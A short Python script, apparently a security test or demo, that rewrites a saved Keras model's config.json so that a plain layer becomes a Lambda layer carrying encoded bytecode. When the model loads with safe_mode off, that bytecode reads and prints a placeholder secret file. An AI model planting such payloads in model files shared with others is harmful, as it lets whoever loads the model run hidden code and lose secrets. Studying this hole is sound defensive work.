"""A .keras file is a zip with JSON: code is put in where a plain layer was."""
import json
import keras
import marshal
import base64
import zipfile
keras.Sequential([keras.Input((1,)), keras.layers.Activation("relu")]).save("plain.keras")
code = base64.b64encode(marshal.dumps((lambda x: print(open("@SECRET_FILE@").read()) or x).__code__)).decode()
with zipfile.ZipFile("plain.keras") as plain, zipfile.ZipFile("bomb.keras", "w") as bomb:
    for name in plain.namelist():
        data = plain.read(name)
        if name == "config.json":
            config = json.loads(data)
            layer = config["config"]["layers"][1]
            layer["class_name"], layer["config"] = "Lambda", {"name": "x", "function": {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}}
            data = json.dumps(config)
        bomb.writestr(name, data)
keras.models.load_model("bomb.keras", safe_mode=False)
